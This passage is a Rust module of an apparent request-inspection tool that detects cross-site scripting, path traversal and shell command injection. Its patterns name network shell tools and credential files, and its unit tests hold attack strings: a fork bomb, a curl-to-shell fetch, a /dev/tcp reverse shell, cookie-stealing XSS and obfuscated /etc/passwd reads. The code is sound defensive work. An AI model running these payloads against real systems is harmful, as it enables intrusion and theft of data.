//! Cross-site scripting, path traversal and OS command injection: sets of
//! anchored patterns over the decoded, lower-cased value. Each pattern
//! needs syntax (a tag, an event handler, a `../` step, a shell separator
//! followed by a command) rather than a word alone. Before matching, the
//! script patterns see the value without JavaScript comments, and the
//! command patterns see it as a shell would after its quoting: `c'a't`,
//! `c\at` and `c""at` are `cat`, `${IFS}` is a space.

use std::{borrow::Cow, sync::LazyLock};

use regex::{Regex, RegexSet};

use crate::finding::Kind;

struct Set {
    kind: Kind,
    names: Vec<&'static str>,
    set: RegexSet,
}

fn set(kind: Kind, rules: &[(&'static str, &str)]) -> Set {
    Set {
        kind,
        names: rules.iter().map(|(n, _)| *n).collect(),
        set: RegexSet::new(rules.iter().map(|(_, r)| *r)).expect("patterns compile"),
    }
}

/// Tools whose names are not English words: a command wherever it
/// starts.
pub(super) const TOOLS: &str = "(?:cat|tac|ls|id|whoami|uname|ifconfig|netstat|wget|curl|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|tftp|rsync|bash|sh|zsh|dash|ksh|csh|tcsh|busybox|ping|traceroute|nslookup|dig|rm|rmdir|chmod|chown|chgrp|chattr|mkfifo|mknod|dd|tar|gzip|gunzip|zcat|bzip2|bunzip2|xz|unxz|unzip|7z|zstd|base64|base32|xxd|hexdump|strings|grep|egrep|fgrep|awk|gawk|sed|uniq|xargs|printenv|nohup|crontab|sudo|doas|passwd|useradd|usermod|python[0-9.]*|perl|ruby|php[0-9]*|node|nodejs|lua|javac|gcc|c89|c99|powershell|pwsh|cmd(?:\\.exe)?|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|schtasks|tasklist|taskkill|systeminfo|ipconfig|openssl|gpg|sendmail|systemctl|journalctl|lsof|strace|ltrace|gdb|vim?|nano|emacs|docker|kubectl|ansible(?:-[a-z]+)?|puppet|terraform|gcloud|apt-get|yum|dnf|apk|rpm|dpkg|md5sum|sha[0-9]+sum|readlink|realpath|getent|tclsh|irb|jrunscript|jshell|sqlite3|mysql|psql|redis-cli|nmap|masscan|iptables|nft|modprobe|insmod|chroot|setsid|pkexec|visudo|lastlog|lastb|faillog|flock|rmt(?:-[a-z]+)?|cscli|pipx|knife|chef-[a-z]+|salt-[a-z]+|adduser|deluser|addgroup|groupadd|userdel|chpasswd|chsh|setfacl|getfacl|ldd|objdump|readelf|tcpdump|tshark|hping3|nping|ifup|ifdown|iwconfig|nmcli|hostnamectl|timedatectl|loginctl|poweroff|telinit|fuser|pgrep|pidof|lscpu|lsblk|lspci|lsusb|lsmod|dmesg|sysctl|uptime|vmstat|iostat|whereis|busctl|udevadm|setcap|getcap|runuser|newgrp|perf|ssh-copy-id|ssh-keygen|ssh-add|bsdtar|ll|cpulimit|trap|comm|zstdcat|zstdgrep|zstdless|lastlogin|pip[0-9.]*|gcc[0-9.]*|clang|env|shutdown|reboot|find|killall|pkill|regedit|reg|bcdboot|bcdedit|vssadmin|wevtutil|netsh|sc|aptitude|ab|at|schtasks|icacls|takeown|cacls|attrib|bitsadmin)";
/// Tools named like English words: a command only after a shell
/// separator.
pub(super) const WORDS: &str = "(?:echo|printf|type|head|tail|more|less|find|sort|cut|tr|wc|tee|env|export|set|unset|alias|eval|exec|source|timeout|time|watch|at|su|kill|pkill|killall|ps|top|who|w|last|host|file|date|sleep|yes|seq|test|stat|basename|dirname|column|fold|comm|diff|cmp|paste|join|split|shuf|rev|expand|fmt|pr|iconv|mail|mount|umount|df|du|free|ed|ex|make|go|git|npm|pip|gem|apt|service|history|net|reg|sc|copy|del|dir|move|ren|start|rc|od|nl|ln|mv|cp|touch|mkdir|locate|logger|wall|write|finger|expect|ip|ss)";
/// What follows a command name: the end, a separator, an option, a path,
/// a variable, a quote, a URL. (A comma only inside a brace expansion,
/// `{cat,/etc/passwd}`: field lists such as `id,name` are everywhere.)
const ARGS: &str = r"(?:\s*$|\s*[;&|`)\n]|\s+[-+/$'\x22`.~\\%]|\s+[a-z]:[\\/]|\s+[a-z0-9_.-]+\s+-{1,2}[a-z]|\s+[a-z0-9_.-]+\s*[;&|`\n]|\s+[a-z0-9_.-]*\.(?:txt|sh|log|conf|py|pl|php|gz|zst|tar|zip)\b|\s+https?://)";

static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
    [
        set(
            Kind::InjectionXss,
            &[
                ("script tag", r"<\s*script[\s/>]"),
                (
                    "event handler",
                    r"<[a-z][a-z0-9]*[\s/][^>]*\bon[a-z]{3,}\s*=",
                ),
                (
                    "event handler attribute",
                    r"[\x22'`/;,(]\s*on[a-z]{3,}\s*=\s*(?:[^\s=]|$)|\s\s*on[a-z]{3,30}\s*=\s*(?:[^\s=]|\s=)|^\s+on[a-z]{3,48}\s*=\s*$|[\x22'`/;,(\s]formaction\s*=|(?:^|\s)on(?:error|load|click|dblclick|auxclick|mouse[a-z]+|pointer[a-z]+|focus(?:in|out)?|blur|key(?:up|down|press)|submit|change|input|toggle|animation[a-z]+|transition[a-z]+|begin|end|scroll|wheel|drag[a-z]*|drop|play|pause|message|resize|select|show|start|copy|paste|cut|contextmenu|abort|beforeunload|unload|hashchange|popstate|pageshow|loadstart|canplay|seeked|webkit[a-z]+)\s*=\s*[^\s=]",
                ),
                (
                    "javascript url",
                    r"(?:^|[\s'\x22=(`])(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:",
                ),
                (
                    "active tag",
                    r"<\s*(?:iframe|object|embed|svg|math|base|meta|link|style|frameset|applet|isindex|marquee|xss|keygen|dialog|noscript)\b|<\s*[a-z]+\s*:\s*(?:vmlframe|script|image|imagedata|import|animate|set|handler)\b|<\s*\??\s*import\b[^>]*\bimplementation\s*=|<[a-z][a-z0-9:-]*\s[^>]*\b(?:xmlns(?::[a-z]+)?|xlink:href|xsi:schemalocation)\s*=|<\s*xi:include\b|<\s*form\b[^>]*\bon[a-z]+|<\s*(?:form|button|input|a|area|image|isindex)\b[^>]*\b(?:action|formaction|href|src)\s*=\s*['\x22]?\s*(?:java|vb)script:",
                ),
                (
                    "dom sink",
                    r"document\s*\.\s*(?:cookie|write|writeln|location|domain)|window\s*\.\s*location|\.(?:inner|outer)html\s*=|\beval\s*\(|\balert\s*\(|\bprompt\s*\(|\bconfirm\s*\(|\bsettimeout\s*\(\s*['\x22`]|\bfunction\s*\(\s*\)\s*\{|\b(?:setinterval|settimeout|execscript)\s*\(\s*[a-z_$'\x22`]|\bnew\s+function\s*\(|\b(?:btoa|atob)\s*\(|\bimport\s*\{[^}]*\}\s*from\b|\bdocument\s*\.\s*(?:createelement|body\s*\.\s*appendchild)|\.appendchild\s*\(\s*document|\bdocument\s*\.\s*(?:queryselector(?:all)?|getelementsby[a-z]+|getelementbyid)\s*\([^)]*\)\s*(?:\[[^\]]*\]\s*)?\.\s*(?:textcontent|innertext|innerhtml|outerhtml|src|href|action)\s*=",
                ),
                (
                    "obfuscated property call",
                    r"(?:\bself|\btop|\bparent|\bwindow|\bglobalthis|\bframes|\bthis|\(\s*document\s*\)|\bdocument)\s*\[\s*['\x22`]|\[\s*\]\s*\.\s*[a-z]+\s*\.\s*call\s*`|\breflect\s*\.\s*[a-z]+|\.(?:call|apply)\s*`|\b[a-z_$][a-z0-9_$]*\s*`[^`]*\$\{|\(\s*!\s*\[\s*\]\s*\+?\s*\[\s*\]\s*\)|\[\s*!\s*\[\s*\]\s*\]|(?:[!+]\s*){2,}\[\s*\]",
                ),
                ("data url", r"data\s*:\s*text/html|data\s*:[^,]{0,60},\s*<"),
                (
                    "css script",
                    r"expression\s*\(|url\s*\(\s*['\x22]?\s*(?:java|vb)script|-moz-binding|\bbehavior\s*:\s*url",
                ),
            ],
        ),
        set(
            Kind::InjectionPathTraversal,
            &[
                ("dot-dot step", r"(?:^|[/\\])\.\.+[/\\;]"),
                ("dot-dot at end", r"[/\\]\.\.$"),
                (
                    "system file",
                    r"(?:^|[/\\])(?:etc[/\\](?:passwd|shadow|gshadow|hosts|group|issue|crontab|sudoers|subuid|subgid|security[/\\]|ssh[/\\]|mysql[/\\]|apache2[/\\]|nginx[/\\]|shells|fstab|motd|profile|bashrc)|proc[/\\](?:self|[0-9]+|interrupts|cpuinfo|meminfo|version|cmdline|mounts|net[/\\])|windows[/\\](?:win\.ini|system32)|boot\.ini|sys[/\\](?:class|kernel|devices)\b)|(?:^|[/\\])\.(?:ssh[/\\](?:id_[a-z0-9]+|authorized_keys|known_hosts)|docker[/\\]|aws[/\\]credentials|kube[/\\]config|bash_history|git-credentials|htpasswd|netrc|pgpass|my\.cnf)",
                ),
                ("nul byte", r"\x00"),
            ],
        ),
        set(
            Kind::InjectionCommand,
            &[
                (
                    "separator and command",
                    &format!(
                        r"(?:^|[;&|`\n]|\$\()\s*(?:/(?:usr/)?(?:local/)?s?bin/)?{TOOLS}{ARGS}"
                    ),
                ),
                (
                    // `time sh -c id`, `strace ifconfig`, `flock -u / whoami`:
                    // a command run through another.
                    "prefixed command",
                    &format!(
                        r"(?:^|[;&|`\n]|\$\()\s*(?:time|nice|nohup|env|sudo|doas|strace|ltrace|timeout|xargs|exec|command|builtin|busybox|watch|flock|stdbuf|unbuffer|chrt|ionice|taskset|\$\{{?[a-z_][a-z0-9_]*\}}?)(?:\b|\s)[^;&|`\n]{{0,40}}?\s(?:/(?:usr/)?s?bin/)?{TOOLS}\b"
                    ),
                ),
                (
                    // `:(){ :|:& };:`, `f(){ f|f& };f`: a shell function
                    // that pipes or backgrounds (a fork bomb's shape).
                    "shell function definition",
                    r"(?:^|[;&|\s])(?:[:.]|[a-z_][a-z0-9_]*)\s*\(\s*\)\s*\{[^}]*[|&][^}]*\}\s*;",
                ),
                (
                    // PowerShell: download cradles and their aliases.
                    "powershell cmdlet",
                    r"\b(?:invoke-(?:webrequest|expression|restmethod|command|item|wmimethod)|start-process|start-bitstransfer|new-object\s+(?:system\.)?net\.webclient|set-executionpolicy|get-wmiobject|add-mppreference)\b|\.\s*download(?:string|file|data)\s*\(|(?:^|[;&|`\n(])\s*(?:iwr|iex|irm|icm|iwmi|saps|gwmi)\s+\S",
                ),
                (
                    // SQLite's shell runs a command after `.shell` or
                    // `.system` (a query reaching the `sqlite3` CLI).
                    "sqlite shell command",
                    &format!(r"\.\s*(?:shell|system)\s+(?:/(?:usr/)?s?bin/)?(?:{TOOLS}|{WORDS})\b"),
                ),
                (
                    "alias definition",
                    r#"(?:^|[;&|`\n])\s*alias\s+(?:[-+][a-z]*\s+)*['"]?[\w.-]+['"]?="#,
                ),
                (
                    // `gcc<<<'main(){}'`, `;irb<<<1+2`: bash's here-string,
                    // after a command word (glued to it when nothing
                    // separates it from the start: `scores <<< 3` is prose).
                    "here string",
                    r"[;&|`\n(]\s*[a-z][a-z0-9._+-]*\s*<<<|^\s*[a-z][a-z0-9._+-]*<<<",
                ),
                (
                    // A value that opens a function definition, as
                    // Shellshock's environment variables do: `() {`.
                    "shellshock function",
                    r"^\s*\(\s*\)\s*\{",
                ),
                (
                    "pipe into a shell",
                    r"\|\s*(?:/(?:usr/)?bin/)?(?:ba|z|da|k|c|tc)?sh\s*(?:$|[;&|#)])",
                ),
                (
                    // `(sh)0>/dev/tcp/...`: a subshell whose input or output
                    // is redirected.
                    "redirected subshell",
                    r"\(\s*(?:ba|z|da|k)?sh\s*\)\s*[0-9]*\s*[<>]",
                ),
                (
                    // `vi x +silent\ !whoami +wq`: an editor started with a
                    // command that escapes to the shell (in a form body the
                    // `+` is a space).
                    "editor shell escape",
                    r"(?:^|[;&|`\n\s])(?:vim?|nvim|rvim|ex|view)\s+[^\s;&|]*\s*(?:\+\s*(?:silent!?\s*)?|silent!?\s*)!\s*[a-z/]",
                ),
                (
                    "variable run as a command",
                    r"(?:^|[;&|`\n]|\$\()\s*\$\{?[a-z_][a-z0-9_]*\}?\s+(?:-{1,2}[a-z]|\$\{?[a-z_])",
                ),
                (
                    "process substitution",
                    &format!(r"[<>]\(\s*(?:{TOOLS}|{WORDS})\b"),
                ),
                (
                    "brace expansion",
                    // `{cat,/etc/passwd}`, `{ls,-la}`, `{nc,10.0.0.1,9}`: a
                    // command and an argument (a path, option, number,
                    // variable, quote or host); `{id,name}` is a field
                    // list and `{date,-price}` a sort order.
                    &format!(
                        r"\{{\s*(?:/(?:usr/)?s?bin/)?(?:{TOOLS},\s*(?:[/$'\x22\\~0-9-]|[a-z0-9_-]*[./:])|{WORDS},\s*[/$'\x22\\~])"
                    ),
                ),
                (
                    "separator and shell word",
                    &format!(r"(?:[;&|`\n]|\$\()\s*{WORDS}{ARGS}"),
                ),
                (
                    "command substitution",
                    r"\$\(\s*[a-z]+[^)]*\)|`\s*[a-z]+[^`]*`",
                ),
                (
                    "shell path",
                    r"/bin/(?:ba|z|da|k)?sh\b|\bcmd\.exe\b|\$\{ifs\}|\$ifs\b",
                ),
                (
                    // Bash's own expansions: `${x#pat}`, `${p%/*}`,
                    // `${v/a/b}`, `${v:2}`, `${!ref}`, `${#len}`, arithmetic
                    // `$((...))` and the old `$[...]` with arithmetic or nothing
                    // in it (not MongoDB's positional `.$[]`). Plain `${name}` is every template
                    // language's and is not one.
                    "shell parameter expansion",
                    r"\$\{[#!]?[a-z_][a-z0-9_]*(?:#|%|//?|:[-=+?]|:[0-9])[^}]*\}|\$\{[#!][a-z_][a-z0-9_]*\}|\$\(\(|(?:^|[^.\w])\$\[\s*(?:[0-9a-z_$() ]*[0-9+*/%-][0-9a-z_$+*/%() -]*)?\]",
                ),
                (
                    // `bin/ansible`, `usr/sbin/visudo`: a tool by its
                    // relative install path.
                    "relative tool path",
                    &format!(
                        r"(?:^|[\s;&|'\x22=])(?:usr/)?(?:local/)?s?bin/(?:{TOOLS}|chef)(?:$|[\s;&|'\x22])"
                    ),
                ),
                (
                    // `/bi[n]/bash`, `/[e]tc/passwd`: a bracket class in an
                    // absolute path's first name.
                    "bracket glob path",
                    r"(?:^|[\s=;&|'\x22])/[a-z]*\[[a-z/]+\][a-z]*(?:/|$)",
                ),
                (
                    "shell glob path",
                    r"/(?:etc|bin|usr|sbin|dev|proc|tmp|var|home|root)/[^\s]*(?:\[[^\]]+\]|\?)|/\?\?\?/|/\?+[a-z]*\?+(?:/|$)",
                ),
                (
                    "windows command",
                    r"\bfor\s+/[fdlr]\b|\bfor\s+%%?[^\s%]{1,3}\s+in\s*\(|\bfor\s+%%?[a-z0-9_]{1,32}\s+in\s*\([^)]*\)\s*do\b|\bif\s*(?:/i\s*)?(?:not\s+)?(?:\x22[^\x22]{0,40}\x22|\S{1,40})\s*==\s*\S|\bif\s+(?:/i\s+)?(?:not\s+)?\S{1,40}\s+(?:equ|neq|lss|leq|gtr|geq)\s|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\b|\bif\s+\x22?%[^%\s]+%\x22?\s*(?:==|(?:gtr|lss|equ|neq|geq|leq)\b)|%comspec%|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-[a-z]",
                ),
            ],
        ),
    ]
});

/// Compiles every pattern now, so the first request does not pay for it.
pub fn warm() {
    LazyLock::force(&SETS);
    let _ = without_js_comments("/**/");
    let _ = shell_words("$");
}

/// A tag name spelled with spaces between its letters (`< f o r m`,
/// `< x: script`).
static SPACED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"<\s*((?:[a-z]\s+){2,}[a-z])\b|<\s+([a-z])").expect("pattern compiles")
});

/// An HTML element's name spelled with spaces between its letters
/// (`<f o r m`, `<s c r i p t`): nobody writes markup so but to slip it
/// past a filter.
fn spaced_tag(lower: &str) -> bool {
    const ELEMENTS: &[&str] = &[
        "form", "script", "iframe", "frame", "frameset", "img", "image", "svg", "body", "input",
        "button", "style", "link", "meta", "base", "object", "embed", "applet", "video", "audio",
        "source", "math", "marquee", "textarea", "select", "details", "dialog", "template",
        "isindex", "keygen", "html", "xml", "table", "div", "span", "option",
    ];
    lower.contains('<')
        && SPACED.captures_iter(lower).any(|c| {
            c.get(1).is_some_and(|m| {
                let name: String = m.as_str().split_whitespace().collect();
                ELEMENTS.contains(&name.as_str())
            })
        })
}

/// The value without JavaScript comments (`/* ... */`).
fn without_js_comments(s: &str) -> Cow<'_, str> {
    // UTF-7 brackets and quotes (`+ADw-script+AD4-`), as old browsers
    // decoded them.
    static UTF7: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"\+ad[w4]-|\+aci-|\+acc-").expect("pattern compiles"));
    static COMMENT: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"/\*.*?\*/").expect("pattern compiles"));
    let mut out = Cow::Borrowed(s);
    if s.contains("+ad") || s.contains("+ac") {
        out = Cow::Owned(
            UTF7.replace_all(&out, |c: &regex::Captures<'_>| match &c[0] {
                "+adw-" => "<",
                "+ad4-" => ">",
                "+aci-" => "\"",
                _ => "'",
            })
            .into_owned(),
        );
    }
    if out.contains('<') && SPACED.is_match(&out) {
        out = Cow::Owned(
            SPACED
                .replace_all(&out, |c: &regex::Captures<'_>| {
                    let letters = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
                    format!("<{}", letters.split_whitespace().collect::<String>())
                })
                .into_owned(),
        );
    }
    if out.contains("/*") {
        out = Cow::Owned(COMMENT.replace_all(&out, " ").into_owned());
    }
    out
}

/// The value as a shell reads it after quoting: quotes and backslashes
/// gone, `$@` gone, `${IFS}` / `$IFS$9` a space.
fn shell_words(s: &str) -> Cow<'_, str> {
    // `(` alone is prose's; only `<(` and `>(` split a word.
    if !s.contains(['\'', '"', '\\', '$', '`']) && !s.contains("<(") && !s.contains(">(") {
        return Cow::Borrowed(s);
    }
    static IFS: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\$\{ifs\}|\$ifs(?:\$[0-9])?|\$@|\$\{[0-9]\}").expect("pattern compiles")
    });
    // An empty substitution or an unset variable inside a word is
    // nothing to the shell: `pi$()ng`, `pi``ng`, `pi<()ng`, `uname$u`; a special parameter
    // (`c$@at`, `c$!at`, `/et$?c`) is there only to break the word up.
    static INSIDE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"([a-z0-9])(?:\$(?:\(\)|\{[a-z_][a-z0-9_]*\}|[a-z_][a-z0-9_]*|[@*!?#_$-])|``|[<>]\(\))",
        )
        .expect("pattern compiles")
    });
    let joined = INSIDE.replace_all(s, "$1");
    let joined = IFS.replace_all(&joined, " ");
    Cow::Owned(
        joined
            .chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
            .collect(),
    )
}

/// A header value that is a command line: a tool's name first, and no
/// `product/version` token (what every real User-Agent has): `visudo`,
/// `cscli alerts list`, `set -o history`.
pub fn command_line(lower: &str) -> bool {
    let ascii = crate::detect::decode::ascii_view(lower);
    let lower: &str = &ascii;
    static LINE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(&format!(
            r#"^\s*['"]?(?:(?:/(?:usr/)?s?bin/)?{TOOLS}['"]?(?:\s|$)|{WORDS}\s+-{{1,2}}[a-z])"#
        ))
        .expect("pattern compiles")
    });
    static PRODUCT: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"[a-z0-9]/v?[0-9]").expect("pattern compiles"));
    LINE.is_match(lower) && !PRODUCT.is_match(lower)
}

/// A tool's name spelled in pieces (quotes, backslashes, empty
/// substitutions or variables inside it, a quoted first letter):
/// `p""y""thon3`, `w\hoami`, `uname$u`, `'c'url`. Nobody writes a word
/// like that but to hide it.
fn in_pieces(lower: &str, shell: &str) -> bool {
    static SPLIT: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r#"[a-z0-9](?:''|""|\\|\$\(\)|\$\{[a-z_][a-z0-9_]*\}|\$[a-z_][a-z0-9_]*|\$[@*!?#_$-]|``|[<>]\(\))+(?:[a-z0-9]|\s|$)|(?:^|[\s;&|`(])(?:'[a-z0-9]+'|"[a-z0-9]+")[a-z0-9]"#,
        )
        .expect("pattern compiles")
    });
    static NAMED: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(&format!(
            r"(?:^|[\s;&|`(])(?:/(?:usr/)?s?bin/)?({TOOLS}|{WORDS})(?:$|[\s;&|`)+])"
        ))
        .expect("pattern compiles")
    });
    if shell.len() >= lower.len() || !SPLIT.is_match(lower) {
        return false;
    }
    // The name must be one the joining made: "Wall Street\x99s" names
    // `wall` whole, and its backslashes are elsewhere.
    let whole: Vec<&str> = NAMED
        .captures_iter(lower)
        .filter_map(|c| c.get(1).map(|m| m.as_str()))
        .collect();
    NAMED
        .captures_iter(shell)
        .filter_map(|c| c.get(1))
        .any(|m| !whole.contains(&m.as_str()))
}

/// A brace expansion that makes a command: `{,ip,a}` is `ip a`, `c{a,ou}t`
/// is `cat cout`, `{l,-lh}s` is `ls -lhs`. Only an expansion with an
/// empty alternative or letters glued to its braces counts (a field list
/// `{id,name}` expands to words, but nobody writes it to run them), and
/// only when its first word is a command.
fn brace_command(lower: &str) -> bool {
    if !lower.contains('{') {
        return false;
    }
    static BRACE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(^|[\s;&|`(])([a-z0-9_./-]*)\{([^{}\s]*,[^{}\s]*)\}([a-z0-9_./-]*)")
            .expect("pattern compiles")
    });
    static FIRST: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(&format!(
            r"^(?:/(?:usr/)?s?bin/)?(?:{TOOLS}|{WORDS})(?:$|[\s;&|`)])"
        ))
        .expect("pattern compiles")
    });
    BRACE.captures_iter(lower).any(|c| {
        let (pre, alts, post) = (&c[2], &c[3], &c[4]);
        let glued = !pre.is_empty() || !post.is_empty();
        let empty_alt = alts.split(',').any(str::is_empty);
        if !(glued || empty_alt) {
            return false;
        }
        let words: Vec<String> = alts
            .split(',')
            .map(|a| format!("{pre}{a}{post}"))
            .filter(|w| !w.is_empty())
            .collect();
        FIRST.is_match(&shell_words(&words.join(" ")))
    })
}

/// System files and programs a shell glob is written to reach without
/// spelling them (`cat /et*/*wd`, `/e't'*/pa'?s'wd`, `/bi?/c[a]t`).
const GLOB_TARGETS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/sudoers",
    "/etc/crontab",
    "/etc/issue",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/dev/tcp",
    "/bin/sh",
    "/bin/bash",
    "/bin/dash",
    "/bin/busybox",
    "/bin/cat",
    "/bin/nc",
    "/usr/bin/id",
    "/usr/bin/nc",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/python",
    "/usr/bin/python3",
    "/usr/bin/perl",
    "/usr/bin/whoami",
];

/// An absolute path with glob characters (`*`, `?`, `[...]`, read as the
/// shell reads them: never across a `/`) that names one of
/// [`GLOB_TARGETS`]. `shell` is the value after shell quoting; a `+`
/// splits words too (a query's space, encoded once too often). A glob with
/// fewer than two literal letters (`/*/*`) is left to the `/???/` shapes:
/// it names everything.
fn glob_system_path(shell: &str) -> bool {
    if !shell.contains(['*', '?', '[']) {
        return false;
    }
    let opts = glob::MatchOptions {
        case_sensitive: false,
        require_literal_separator: true,
        require_literal_leading_dot: true,
    };
    shell
        .split(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    ';' | '&' | '|' | '<' | '>' | '(' | ')' | '=' | ',' | '`' | '+'
                )
        })
        .filter(|w| w.starts_with('/') && w.contains(['*', '?', '[']))
        .filter(|w| w.bytes().filter(u8::is_ascii_alphabetic).count() >= 2)
        .filter_map(|w| glob::Pattern::new(w).ok())
        .any(|p| GLOB_TARGETS.iter().any(|t| p.matches_with(t, opts)))
}

/// Every `(kind, shape)` pattern set the value matches. `prose` is a
/// free-text value (words and spaces in a body or header): there a `../`
/// is a sentence's, and only a system file's name counts as traversal.
pub fn detect(lower: &str, prose: bool) -> Vec<(Kind, &'static str)> {
    let ascii = crate::detect::decode::ascii_view(lower);
    let lower: &str = &ascii;
    let script = without_js_comments(lower);
    let shell = shell_words(lower);
    let pieces = in_pieces(lower, &shell);
    SETS.iter()
        .filter_map(|s| {
            let hay: &str = match s.kind {
                Kind::InjectionXss => &script,
                Kind::InjectionCommand if !s.set.is_match(lower) => &shell,
                _ => lower,
            };
            if !s.set.is_match(hay) {
                return None;
            }
            let m = s.set.matches(hay);
            m.iter()
                .find(|i| {
                    !(prose
                        && s.kind == Kind::InjectionPathTraversal
                        && s.names[*i] != "system file")
                })
                .map(|i| (s.kind, s.names[i]))
        })
        .chain(spaced_tag(lower).then_some((Kind::InjectionXss, "tag name spelled with spaces")))
        .chain(pieces.then_some((Kind::InjectionCommand, "command spelled in pieces")))
        .chain(
            brace_command(&shell)
                .then_some((Kind::InjectionCommand, "command made by brace expansion")),
        )
        .chain(
            glob_system_path(&shell)
                .then_some((Kind::InjectionCommand, "glob naming a system file")),
        )
        .collect()
}

#[cfg(test)]
mod tests {
    use super::detect;

    fn kinds(v: &str) -> Vec<&'static str> {
        detect(&v.to_ascii_lowercase(), false)
            .into_iter()
            .map(|(k, _)| k.name())
            .collect()
    }

    #[test]
    fn attacks() {
        for (v, k) in [
            ("<script>alert(1)</script>", "injection_xss"),
            ("foo<f o r m", "injection_xss"),
            ("$<s c r i p t", "injection_xss"),
            ("\"onzoom=", "injection_xss"),
            ("'formaction=javascript:x", "injection_xss"),
            (
                "<a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"x\">",
                "injection_xss",
            ),
            ("<?import implementation=\"x.htc\">", "injection_xss"),
            (
                "document.querySelector(\"p\").textContent=\"XSS\"",
                "injection_xss",
            ),
            ("+!![]", "injection_xss"),
            (":(){ :|:& };:", "injection_command"),
            ("& FOR %- IN (a,b,c) DO cmd", "injection_command"),
            ("IF /I NOT EXIST C:\\x echo hey", "injection_command"),
            (";cpulimit -l 100 -f whoami", "injection_command"),
            (
                "Invoke-WebRequest http://example.com/file.ps1",
                "injection_command",
            ),
            (";iwr http://example.com/file.ps1", "injection_command"),
            (
                "(New-Object Net.WebClient).DownloadString('http://x/a')",
                "injection_command",
            ),
            (
                "; regedit /E c:\\a.reg HKEY_CURRENT_USER",
                "injection_command",
            ),
            ("<img src=x onerror=alert(1)>", "injection_xss"),
            ("<svg/onload=confirm(1)>", "injection_xss"),
            ("javascript:alert(document.cookie)", "injection_xss"),
            ("../../../../etc/passwd", "injection_path_traversal"),
            ("..\\..\\windows\\win.ini", "injection_path_traversal"),
            ("/static/../../etc/shadow", "injection_path_traversal"),
            ("1; cat /etc/passwd", "injection_command"),
            ("x | whoami", "injection_command"),
            ("$(id)", "injection_command"),
            ("`uname -a`", "injection_command"),
            ("a&&curl http://x/s|sh", "injection_command"),
            ("; ex -c:\\!pwd", "injection_command"),
            ("x;base64 --decode /etc/passwd", "injection_command"),
            ("busybox -c \"echo hi\"", "injection_command"),
            ("; c'a't /etc/pa's's'wd", "injection_command"),
            (";c\\at${IFS}/etc/passwd", "injection_command"),
            ("/usr/[a-z]in/bash", "injection_command"),
            ("/???/??t /???/p??s??", "injection_command"),
            ("FOR /F %%G IN ('dir') DO ECHO %%G", "injection_command"),
            ("if %n1% gtr %n2% echo greater", "injection_command"),
            ("\" onmouseover=\"alert(1)", "injection_xss"),
            ("ja\tvascript:alert(1)", "injection_xss"),
            ("self[/*foo*/\"alert\"](1)", "injection_xss"),
            ("document /*x*/ . cookie", "injection_xss"),
            ("(document)[\"cookie\"]", "injection_xss"),
            ("[].map.call`${eval}`", "injection_xss"),
            ("style=x:url(javascript:alert(1))", "injection_xss"),
            ("data: , <x>", "injection_xss"),
            ("window.location='//evil'", "injection_xss"),
            ("<details open ontoggle=alert(1)>", "injection_xss"),
            ("${x#{}}", "injection_command"),
            ("${PATH%/*}/sh", "injection_command"),
            ("$(($() 42))", "injection_command"),
            ("$[2+2]", "injection_command"),
            ("${!ref}", "injection_command"),
            ("/bi[n]/bash", "injection_command"),
            ("cat /et*/*wd", "injection_command"),
            ("alias ..='cd ..'", "injection_command"),
            ("alias +g + a=b", "injection_command"),
            (";irb<<<1+2", "injection_command"),
            ("() {", "injection_command"),
            ("echo \"foo;whxam\"i | tr x o | sh #", "injection_command"),
            ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", "injection_command"),
            (";vi dddd +silent\\ \\!whoami +wq", "injection_command"),
            ("for %variable in (set) do command", "injection_command"),
            (";+cat+/e't'*/pa'?s'wd", "injection_command"),
            ("cat /e\\t\\*/pa\\?s\\wd", "injection_command"),
            ("/us?/b*/wge? http://x/a", "injection_command"),
            ("/[e///]tc", "injection_command"),
            ("bin/ansible", "injection_command"),
            ("x;usr/sbin/visudo -f a", "injection_command"),
        ] {
            assert!(kinds(v).contains(&k), "{v}: {:?}", kinds(v));
        }
    }

    #[test]
    fn benign() {
        for v in [
            "Tom & Jerry",
            "a < b and c > d",
            "see you at 5:30; cat lovers welcome",
            "/api/v1/accounts/42",
            "/api/*/users",
            "() => {} is an arrow function",
            "scores <<< 3 points >>>",
            "pipe | shell",
            "(sh) is short for shell",
            "for loops in (python) do not need braces",
            "alias: Bob",
            "/*/*",
            "rotate /var/log/*.log and /etc/*.conf",
            "/static/img/icon-??.png",
            "version 1.2..3",
            "email@example.com",
            "I like <b>bold</b> text",
            "the description is on file",
            "C# and F#",
            "set the time; watch the date",
            "Cats & dogs; cats are fine",
            "1 + 1 = 2; we can test it",
            "online=true",
            "the ls of things",
            "I'll cd the file (later)",
            "for / against",
            "if it fails, retry",
            "what time is it?",
            "see /etc for details",
            "https://www.example.com/a/b?c=d",
            "tags: <b>, <i> and <u>",
            "/api/users/id",
            "/docs/cat",
            "fields=id,name,price",
            "time to say goodbye",
            "you'll see",
            "status: online=",
            "we went on holiday = fun",
            "wow!! [see] this",
            "env and the environment",
            "find the best plan",
            "at 2:00 we meet",
            "reg. no. 12345",
